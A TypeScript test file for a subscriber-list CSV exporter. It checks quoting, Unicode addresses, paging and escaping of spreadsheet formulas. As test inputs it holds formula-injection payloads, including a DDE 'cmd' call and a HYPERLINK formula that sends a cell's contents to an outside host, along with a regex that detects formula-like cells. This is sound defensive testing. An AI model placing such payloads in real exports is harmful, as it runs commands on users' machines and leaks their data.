import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { subscriberCsv, type SubscriberRow } from './subscriber-csv.ts';

const AT = '2026-11-21T08:00:00.000Z';
const HEAD = '\ufeffEmail,Subscribed At';

async function csvOf(...pages: (readonly SubscriberRow[])[]): Promise<string> {
  const source = (async function* () {
    for (const page of pages) yield page;
  })();
  let csv = '';
  for await (const portion of subscriberCsv(source)) csv += portion;
  return csv;
}

const csvOfOne = async (email: string) => (await csvOf([[email, AT]])).slice(HEAD.length);

/** Parses as a strict reader of RFC 4180 does. */
function read(csv: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  return data;
}

describe('the list as CSV', () => {
  it('begins with the byte order mark and the header, one line for each row, no line break at the end', async () => {
    const rows: SubscriberRow[] = [
      ['somchai.w+news@example.co.th', AT],
      ['reader_2@xn--72c1a1bt4awk9o.com', '2026-11-20T23:59:59.999Z'],
    ];
    expect(await csvOf(rows)).toBe(
      `${HEAD}\r\nsomchai.w+news@example.co.th,${AT}\r\nreader_2@xn--72c1a1bt4awk9o.com,2026-11-20T23:59:59.999Z`,
    );
  });

  it('is only the header when nobody has subscribed', async () => {
    for (const pages of [[], [[]]]) expect(await csvOf(...pages)).toBe(HEAD);
  });

  it('is the same for any division of the rows into pages', async () => {
    const rows = ['a@x.co', '"b"@x.co', 'ค@x.co', '=d@x.co', 'e@x.co'].map((email): SubscriberRow => [
      email,
      AT,
    ]);
    const whole = await csvOf(rows);
    for (const size of [1, 2, 4]) {
      const pages = Array.from({ length: Math.ceil(rows.length / size) }, (_, page) =>
        rows.slice(page * size, (page + 1) * size),
      );
      expect(await csvOf(...pages, [])).toBe(whole);
    }
  });

  it('reads a page when the previous one has been consumed', async () => {
    const asked: number[] = [];
    const portions = subscriberCsv(
      (async function* () {
        for (let page = 0; page < 1_000; page++) {
          asked.push(page);
          yield [[`reader${page}@x.co`, AT] as const];
        }
      })(),
    );
    await portions.next();
    expect(asked).toEqual([]);
    await portions.next();
    await portions.next();
    expect(asked).toEqual([0, 1]);
    await portions.return();
  });
});

describe('a cell', () => {
  it.each([
    ['a comma', 'a,b@x.co', '"a,b@x.co"'],
    ['a quotation mark', 'a"b@x.co', '"a""b@x.co"'],
    ['a line break', 'a\nb@x.co', '"a\nb@x.co"'],
    ['a carriage return', 'a\r\nb@x.co', '"a\r\nb@x.co"'],
    ['a blank at its beginning', ' a@x.co', '" a@x.co"'],
    ['a blank at its end', 'a@x.co ', '"a@x.co "'],
    ['the separator of another dialect', 'a@x;=1+1.co', '"a@x;=1+1.co"'],
    ['a tab inside', 'a@x\t=1.co', '"a@x\t=1.co"'],
    ['nothing', '', ''],
    ['Thai', 'สมชาย@ตัวอย่าง.ไทย', 'สมชาย@ตัวอย่าง.ไทย'],
    ['an emoji of several signs', '👩‍⚖️@x.co', '👩‍⚖️@x.co'],
    ['Chinese', '李明@例子.中国', '李明@例子.中国'],
    ['an apostrophe', "o'neil@x.co", "o'neil@x.co"],
    ['a hyphen inside', 'a-b@x.co', 'a-b@x.co'],
  ])('with %s', async (_, email, written) => {
    expect(await csvOfOne(email)).toBe(`\r\n${written},${AT}`);
    expect(read(await csvOf([[email, AT]]))[1]).toEqual([email, AT]);
  });

  it.each([
    '=1+1@x.co',
    '+66812345678@x.co',
    '-2+3@x.co',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '  =1+1@x.co',
    '\u00a0=1',
    '\u3000＝1',
    '\u200b=1',
    '\ufeff=1',
    '"=1+1"@x.co',
    "'=1+1@x.co",
    '" =1"',
    '＝1+1@x.co',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '−1',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.co?"&A1,"x")',
    '\u001b[2J',
  ])('that would be run as a formula, %j, becomes text', async (email) => {
    const csv = await csvOf([[email, AT]]);
    expect(csv).toBe(`${HEAD}\r\n"'${email.replaceAll('"', '""')}",${AT}`);
    expect(read(csv)[1]).toEqual([`'${email}`, AT]);
  });
});

/** A seeded number generator, so that a failure can be reproduced. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

it('of 10,000 random addresses each is read back, and none begins as a formula does', async () => {
  const next = numbers(20_261_121);
  const signs = Array.from('abz09@.,;:"\'=+-_|!()%$ \t\r\n\0\u00a0\u200b\u2028\ufeff＝＋－＠กำ่𝒜👍李');
  const rows = Array.from({ length: 10_000 }, (): SubscriberRow => {
    const length = next(12);
    return [Array.from({ length }, () => signs[next(signs.length)]).join(''), AT];
  });
  const [head, ...lines] = read(await csvOf(rows.slice(0, 4_999), rows.slice(4_999)));
  expect(head).toEqual(['Email', 'Subscribed At']);
  expect(lines).toHaveLength(rows.length);
  let escaped = 0;
  lines.forEach(([email = '', at], index) => {
    const was = rows[index]?.[0] ?? '';
    if (email !== was) {
      expect(email).toBe(`'${was}`);
      escaped += 1;
    }
    expect(at).toBe(AT);
    // From security E9, not the pattern of the code.
    expect(email).not.toMatch(/^[\s\u00a0\ufeff\0]*[=+\-@\t\r\n\0＝＋－＠]/);
  });
  expect(escaped).toBeGreaterThan(1_000);
});

it('common addresses are written as the library writes them', async () => {
  const rows = ['a@b.co', 'a.b-c_d+e@x-y.co.th', '1@2.co', 'สมหญิง@x.co', 'o"x@y.co', 'a,b@c.co', ''].map(
    (email): SubscriberRow => [email, AT],
  );
  const library = Papa.unparse({ fields: ['Email', 'Subscribed At'], data: rows }, { escapeFormulae: true });
  expect(await csvOf(rows)).toBe(`\ufeff${library}`);
});
